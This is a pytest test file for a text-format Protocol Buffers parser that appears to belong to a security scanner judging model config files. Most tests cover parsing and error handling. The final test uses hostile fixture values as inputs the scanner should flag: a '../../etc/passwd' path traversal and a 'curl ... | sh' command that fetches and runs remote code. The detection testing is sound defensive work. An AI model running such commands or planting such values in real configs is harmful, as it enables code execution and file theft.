"""Protocol Buffers' text format: every spelling of one message is read as that message."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assay.core.finding import Verdict
from assay.scanning.parsers.lines import lines
from assay.scanning.parsers.text_proto import Begin, End, TextError, Value, fields
from scanning.container_making import judge


def shown(text: str) -> list[object]:
    rows: list[object] = []
    for event in fields(text):
        match event:
            case Begin():
                rows.append((event.name, "{"))
            case End():
                rows.append("}")
            case Value():
                rows.append((event.name, event.value))
    return rows


WANTED = [("a", b"x"), ("m", "{"), ("n", b"1"), "}", ("l", b"1"), ("l", b"2")]


@pytest.mark.parametrize(
    "text",
    [
        'a: "x" m { n: 1 } l: 1 l: 2',
        "a: 'x'; m: { n: 1, }; l: [1, 2]",
        'a:"x"\n# note\nm <n: 1>\nl: [ 1,2 ]',
        'a: "" "x" m{n:1}l:1,l:2',
    ],
)
def test_spellings_of_one_message(text: str) -> None:
    assert shown(text) == WANTED


def test_lists_of_messages_and_names_in_brackets() -> None:
    assert shown("m: [{ n: 1 }, { n: 2 }] [x.y/Z]: 3") == [
        ("m", "{"), ("n", b"1"), "}", ("m", "{"), ("n", b"2"), "}", ("x.y/Z", b"3"),
    ]  # fmt: skip


def test_escapes() -> None:
    text = r'a: "\x41\101\n\"\\\u00e9" b: "' + "é" + '"'
    assert shown(text) == [("a", b'AA\n"\\' + "é".encode()), ("b", "é".encode())]


@pytest.mark.parametrize(
    "text", ["a", "a: ", "{", "a {", "a }", ": 1", 'a: "x', "a: 1 }", "a: {{", "@"]
)
def test_what_is_no_message(text: str) -> None:
    with pytest.raises(TextError):
        list(fields(text))


def test_depth_is_bounded() -> None:
    with pytest.raises(TextError):
        list(fields("a {" * 10_000))


@given(st.text(alphabet='ab:{}<>[]"\\\n ,;#1.', max_size=60))
def test_any_text_is_a_message_or_an_error(text: str) -> None:
    depth = 0
    try:
        for event in fields(text):
            depth += {Begin: 1, End: -1}.get(type(event), 0)
            assert depth >= 0
    except TextError:
        return
    assert depth == 0


@given(st.lists(st.text(alphabet="ab\r", max_size=5), min_size=1))
def test_lines_are_those_of_split(rows: list[str]) -> None:
    data = "\n".join(rows).encode()
    assert list(lines(data)) == [(i, row.rstrip("\r")) for i, row in enumerate(rows, 1)]


@pytest.mark.parametrize(
    ("name", "text", "verdict"),
    [
        ("labels.pbtxt", "item {\n  id: 1\n  name: 'person'\n}\n", Verdict.CLEAN),
        (
            "config.pbtxt",
            'name: "m"\nplatform: "onnxruntime_onnx"\ninput [{dims: [4]}]\n',
            Verdict.CLEAN,
        ),
        ("config.pbtxt", 'name: "m"\nbackend: "python"\n', Verdict.SUSPICIOUS),
        (
            "config.pbtxt",
            'name: "m"\ndefault_model_filename: "../../etc/passwd"\n',
            Verdict.MALICIOUS,
        ),
        (
            "config.pbtxt",
            'name: "m"\ncommand: "curl http://e.example/x | sh"\n',
            Verdict.SUSPICIOUS,
        ),
        ("config.pbtxt", 'name: "m"\nbroken {\n', Verdict.UNKNOWN),
    ],
)
def test_settings_in_text(name: str, text: str, verdict: Verdict) -> None:
    judged = judge(text.encode(), name)
    assert (judged.family, judged.verdict) == ("text-proto", verdict), judged
